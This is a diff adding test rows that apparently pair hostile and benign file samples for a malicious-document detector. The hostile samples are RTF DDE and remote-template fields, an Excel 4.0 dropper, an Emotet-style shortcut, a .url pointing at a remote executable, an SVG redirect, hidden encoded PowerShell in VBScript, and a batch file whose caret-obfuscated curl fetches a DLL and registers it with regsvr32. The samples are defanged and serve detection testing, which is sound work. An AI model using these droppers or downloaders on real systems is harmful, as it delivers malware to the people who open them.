@@ -42,4 +42,21 @@ ROWS = [
         "report.docx", lambda: forms.docx(others=[("hyperlink", "http://example.com/")])),
     Row("Word, DDE field over runs", "report.docx", lambda: forms.docx(forms.field("DDE", "AUTO c:\\\\windows\\\\sys", "tem32\\\\cmd.exe \"/k rem\"")),
         "report.docx", lambda: forms.docx(forms.field(" PAGE "))),
+    Row("RTF, Equation Editor", "invoice.doc", forms.rtf_equation, "report.rtf", forms.rtf),
+    Row("RTF, remote template", "invoice.rtf", lambda: forms.rtf_template("http://example.invalid/t.dotm"),
+        "report.rtf", lambda: forms.rtf_template("C:\\\\Templates\\\\report.dot")),
+    Row("RTF, DDE field", "invoice.rtf", lambda: forms.rtf_field("DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k rem\""),
+        "report.rtf", lambda: forms.rtf_field("PAGE")),
+    Row("Excel 4.0 macros in a hidden sheet", "07062022.xls", forms.ours("dropper-xlm.xls"), "print.xls", forms.ours("print-xlm.xls")),
+    Row("Shortcut that looks for a script in itself (2022-04)", "Form 04.25.2022, US.doc.lnk", forms.ours("emotet.lnk"),
+        "sales.lnk", forms.ours("folder.lnk")),
+    Row("Internet shortcut to a server's program", "invoice.url", lambda: forms.url_file("file://192.0.2.7/share/invoice.exe"),
+        "portal.url", lambda: forms.url_file("https://www.example.com/")),
+    Row("SVG with a script", "invoice.svg", lambda: forms.svg("location='http://example.invalid/'"), "logo.svg", lambda: forms.svg("")),
+    Row("VBScript that starts PowerShell", "invoice.vbs", forms.script(
+        'Set s = CreateObject("WScr" & "ipt.Shell")\nIf False Then s.Run "power" & "shell -w hidden -e SQBFAFgA", 0\n'),
+        "list.csv", lambda: forms.csv("=RSS|'7203.T'!Price")),
+    Row("Batch file that fetches a program", "invoice.cmd", forms.script(
+        "@echo off\nrem INERT SEKISHO TEST\nexit /b\nc^u^rl -o %TEMP%\\a.dll http://example.invalid/a.dll\nregs^vr32 /s %TEMP%\\a.dll\n"),
+        "readme.txt", forms.notes),
 ]
